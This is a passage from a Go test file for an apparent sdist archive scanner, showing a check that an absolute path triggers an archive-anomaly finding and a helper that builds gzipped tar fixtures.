		t.Errorf("absolute path in the sdist itself: verdict %s, want a high archive-anomaly:\n%s", r.Verdict, findingLines(r))
	}
}

// tarGzPaths packs files under the paths given, absolute ones included.
func tarGzPaths(t *testing.T, files map[string]string) []byte {
	t.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for n, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: n, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			t.Fatal(err)
		}
		tw.Write([]byte(body))
	}
	tw.Close()
	zw.Close()
	return buf.Bytes()
}
